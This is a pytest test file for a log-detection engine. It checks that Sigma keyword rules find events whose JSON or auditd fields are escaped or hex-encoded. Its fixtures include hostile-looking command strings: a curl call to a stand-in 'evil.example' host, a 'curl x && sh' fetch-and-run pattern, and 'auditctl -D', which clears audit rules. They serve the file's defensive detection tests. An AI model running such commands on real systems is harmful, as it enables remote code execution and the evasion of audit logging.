"""Keywords find text a source escaped or encoded, as its fields read it.

Sigma's keywords search the whole event. A JSON record may spell a character with an escape
(Go's encoder writes `&`, `<`, `>` as `\\u0026`..., Python every non-ASCII character, some
producers `/` as `\\/`), so `raw` holds `caf\\u00e9` where the event says `café`; auditd writes
a value with spaces hex-encoded (`cmd=617564697463746C202D44`), which the lake decodes into its
column. Every path (all rules on all rows, candidate rows only, the engine reading `raw` late)
must find those events, and only those.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sigma.collection import SigmaCollection
from tests.detection.engine_paths import matched_by_every_path

from auditlake.detection.code import pl_
from auditlake.detection.compile import CompiledRule, RuleSet, compile_collection
from auditlake.detection.engine import run_detection
from auditlake.ingest import ingest
from auditlake.lake.paths import LakePaths
from auditlake.lake.scan import scan_events

GATEWAY = "gateway.teleport"
AUDITD = "linux.auditd"


def _keyword_rules(logsource: str, keywords: dict[str, str]) -> list[CompiledRule]:
    """One keyword rule per (id suffix, keyword), each rule's title its keyword."""
    documents = [
        f"title: {_quoted(word)}\nid: 7a1c7f3e-2b9b-4c1f-8a57-6c1a1e3f9{suffix}\nlogsource: {logsource}\n"
        f"detection:\n  keywords:\n    - {_quoted(word)}\n  condition: keywords\n"
        for suffix, word in keywords.items()
    ]
    ruleset = compile_collection(SigmaCollection.from_yaml("---\n".join(documents)))
    assert not ruleset.failures, ruleset.failures
    return list(ruleset.rules)


def _quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar (JSON's string syntax is YAML's)."""
    return json.dumps(text, ensure_ascii=False)


def _matched(rules: list[CompiledRule], frame: pl.DataFrame, source: str) -> set[tuple[str, str]]:
    """(event_uid, rule title) matched, the same by every path of the engine."""
    return matched_by_every_path(rules, frame, source)


def _lake(tmp_path: Path, source: str, name: str, content: str) -> LakePaths:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    lake = LakePaths.at(tmp_path / "lake")
    summary = ingest([path], lake, source=source, workers=1)
    assert not summary.quarantined
    return lake


def _gateway_line(uid: str, cmd_json: str) -> str:
    """A Teleport event whose `cmd` is written as the JSON text `cmd_json` (escapes kept)."""
    return ('{"cluster_name":"c","code":"T1000I","event":"user.login","time":"2026-03-05T06:00:00Z",'
            f'"uid":"{uid}","user":"alice","cmd":{cmd_json}}}\n')


REPORTED = {
    "caf\u00e9": ("u-escaped", r'"caf\u00e9"', "plain", '"café"'),
    "http://evil.example/x": ("slashes", r'"curl http:\/\/evil.example\/x"', "plain-url", '"curl http://evil.example/x"'),
    "curl x && sh": ("go-amp", r'"curl x \u0026\u0026 sh"', "plain-amp", '"curl x && sh"'),
    "\U0001f600 x": ("surrogates", r'"\ud83d\ude00 x"', "plain-emoji", '"\U0001f600 x"'),
}


def test_keywords_find_what_a_json_record_spells_with_escapes(tmp_path: Path) -> None:
    lines = [_gateway_line(uid, text) for escaped, plain in
             ((v[0:2], v[2:4]) for v in REPORTED.values()) for uid, text in (escaped, plain)]
    lines.append(_gateway_line("other", r'"caf\u00e8 curl http:\/\/evil.example\/y \u0026"'))  # near misses
    lake = _lake(tmp_path, GATEWAY, "gateway.jsonl", "".join(lines))
    rules = _keyword_rules("{product: teleport, service: audit}", {f"{n:03}": w for n, w in enumerate(REPORTED)})
    events = scan_events(lake).collect()
    expected = {(uid, word) for word, (escaped, _, plain, _) in REPORTED.items() for uid in (escaped, plain)}
    uids = dict(zip(events["raw"].str.json_path_match("$.uid"), events["event_uid"], strict=True))
    assert _matched(rules, events, GATEWAY) == {(uids[u], w) for u, w in expected}
    # ... and so does a run of the engine, which reads `raw` late, for the candidate rows.
    ruleset = RuleSet(tuple(rules), by_id={rule.id: rule for rule in rules})
    summary = run_detection(lake, ruleset, digest="kw", since=datetime(2026, 3, 5, tzinfo=UTC),
                            until=datetime(2026, 3, 6, tzinfo=UTC))
    found = {(uid, title) for uids_, title in summary.alerts.select("event_uids", "rule_title").iter_rows()
             for uid in uids_}
    assert found == {(uids[u], w) for u, w in expected}


AUDIT_LOG = (
    "type=USER_CMD msg=audit(1772690400.100:230): pid=2301 uid=1000 auid=1000 ses=7 subj=unconfined "
    "msg='cwd=\"/home/alice\" cmd=617564697463746C202D44 exe=\"/usr/bin/sudo\" terminal=pts/1 res=success'\n"
    "type=USER_CMD msg=audit(1772690401.100:231): pid=2302 uid=1000 auid=1000 ses=7 subj=unconfined "
    "msg='cwd=\"/home/alice\" cmd=617564697463746C202D6C exe=\"/usr/bin/sudo\" terminal=pts/1 res=success'\n"
    "type=SYSCALL msg=audit(1772690402.243:240): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 "
    "a2=55d3 a3=0 items=1 ppid=2686 pid=3538 auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=1 comm=\"cp\" "
    "exe=\"/usr/bin/cp\" key=\"x\"\n"
    "type=EXECVE msg=audit(1772690402.243:240): argc=3 a0=\"cp\" a1=\"x\" a2=2F746D702F6120622F7368\n"
    "type=PATH msg=audit(1772690402.243:240): item=0 name=2F746D702F6120622F7368 nametype=CREATE\n"
    "type=PROCTITLE msg=audit(1772690402.243:240): proctitle=6370007800\n"
    "type=EOE msg=audit(1772690402.243:240):\n"
)


def test_auditd_keywords_find_hex_encoded_values_as_decoded(tmp_path: Path) -> None:
    """`cmd=617564697463746C202D44` is `auditctl -D`: a keyword finds it as `cmd|contains`
    does; so for an EXECVE argument and a PATH name written in hex."""
    lake = _lake(tmp_path, AUDITD, "audit.log", AUDIT_LOG)
    events = scan_events(lake).collect()
    assert events.filter(pl.col("cmd") == "auditctl -D").height == 1
    rules = _keyword_rules("{product: linux, service: auditd}",
                           {"101": "auditctl -D", "102": "/tmp/a b/sh", "103": "auditctl -X"})
    by_stamp = dict(zip(events["event_uid"].str.extract(r"\.\d+:(\d+)"), events["event_uid"], strict=True))
    assert _matched(rules, events, AUDITD) == {(by_stamp["230"], "auditctl -D"), (by_stamp["240"], "/tmp/a b/sh")}


@pytest.mark.parametrize(("raw", "decoded"), [
    (r'{"c":"caf\u00e9","d":"\ud83d\ude00"}', '{"c":"café","d":"\U0001f600"}'),
    (r'{"p":"C:\\x\\","q":"say \"hi\""}', '{"p":"C:\\x\\","q":"say "hi""}'),  # `\\"` ends a string
    ('{"a": "x",\n\t"b": "\\/"}', '{"a": "x",\n\t"b": "/"}'),  # whitespace between tokens stays
    (r'{"a":"lone \ud800"}', None),  # not text: no decoded spelling, the raw one is still searched
    ("type=USER_CMD msg=audit(1.1:2): cmd=6C73 \\x", None),
])
def test_json_unescaped_decodes_every_escape_of_a_record(raw: str, decoded: str | None) -> None:
    from auditlake.detection.raw_json import json_unescaped  # the decoding itself, on its own

    frame = pl.DataFrame({"raw": [raw]})
    assert frame.select(json_unescaped(pl_.col("raw")).to_expr()).item() == decoded


# -- every path agrees, whatever the producer escaped ---------------------------------------

WORDS = ["ab", "a/b", "&", "<x>", "é", "中", "\U0001f600", '"q"', "\\", " ", "Z"]
fragment = st.lists(st.sampled_from(WORDS), min_size=1, max_size=3).map("".join)


def _spelled(record: dict[str, Any], escapes: tuple[bool, bool, bool]) -> str:
    """`record` as JSON, as various producers write it: non-ASCII as `\\u` escapes (Python's
    default), slashes escaped, `&`, `<`, `>` as `\\u` escapes (Go's default)."""
    ascii_only, slashes, html = escapes
    text = json.dumps(record, ensure_ascii=ascii_only)
    if slashes:
        text = text.replace("/", "\\/")
    if html:
        text = text.replace("&", "\\u0026").replace("<", "\\u003c").replace(">", "\\u003e")
    return text


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    records=st.lists(st.fixed_dictionaries({"cmd": fragment, "path": fragment}), min_size=1, max_size=8),
    keywords=st.lists(fragment, min_size=1, max_size=3, unique=True),
    data=st.data(),
)
def test_every_path_finds_keywords_however_the_record_is_escaped(
    records: list[dict[str, str]], keywords: list[str], data: st.DataObject
) -> None:
    """Random records spelled with random escapes: every path gives the same matches, and a
    keyword held by a field's value (ignoring case) always matches."""
    escapes = st.tuples(st.booleans(), st.booleans(), st.booleans())
    rows = [{"event_uid": f"e{i}", "source": GATEWAY, **r, "raw": _spelled(r, data.draw(escapes))}
            for i, r in enumerate(records)]
    frame = pl.DataFrame(rows, schema={"event_uid": pl.String, "source": pl.String, "cmd": pl.String,
                                       "path": pl.String, "raw": pl.String})
    rules = _keyword_rules("{product: teleport, service: audit}", {f"{n:03}": w for n, w in enumerate(keywords)})
    found = _matched(rules, frame, GATEWAY)
    held = {(row["event_uid"], word) for row in rows for word in keywords
            if any(word.lower() in row[f].lower() for f in ("cmd", "path"))}
    assert held <= found
